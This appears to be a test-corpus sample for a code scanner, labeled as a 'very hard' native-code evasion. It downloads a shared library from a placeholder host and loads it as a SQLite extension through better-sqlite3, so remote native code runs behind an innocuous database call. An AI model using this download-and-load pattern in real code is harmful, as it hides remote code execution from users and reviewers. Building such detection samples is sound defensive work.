// evasion: native code loaded as a SQLite extension (better-sqlite3 loadExtension) after downloading the shared object
// grade: very hard; does: native
const fs = require('fs');
const Database = require('better-sqlite3');

(async () => {
  const res = await fetch('https://cdn.example.org/libhelper.so');
  fs.writeFileSync('/tmp/libhelper.so', Buffer.from(await res.arrayBuffer()));
  const db = new Database(':memory:');
  db.loadExtension('/tmp/libhelper.so');
  db.close();
})();
